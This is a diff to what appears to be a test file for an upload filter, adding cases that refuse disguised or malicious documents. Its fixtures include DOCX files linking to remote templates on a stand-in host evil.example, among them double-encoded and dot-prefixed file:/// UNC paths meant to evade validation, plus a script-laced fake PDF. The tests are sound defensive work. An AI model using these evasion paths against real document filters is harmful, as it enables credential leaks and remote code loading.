@@ -34,6 +34,8 @@ test('files that are not what they claim are refused with the text, and not forw
     ['markup.pdf', Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfFile()])],
     ['template.docx', docxPointingTo(relationTo('https://evil.example/t.dotm')), LINKED],
     ['server.docx', docxPointingTo(relationTo('\\\\evil.example\\t.dotm')), LINKED],
+    ['twice.docx', docxPointingTo(relationTo('file:///%255C%255Cevil.example%255Ct.dotm')), LINKED],
+    ['dots.docx', docxPointingTo(relationTo('file:///.\\\\evil.example\\t.dotm')), LINKED],
     ['picture.docx', docxPointingTo(relationTo('\\\\evil.example\\a.png', 'image')), LINKED],
     ['lying.docx', withUnpackedSize(large, 2, 10, true)],
     ['cut.docx', docxFile().slice(0, -30)],
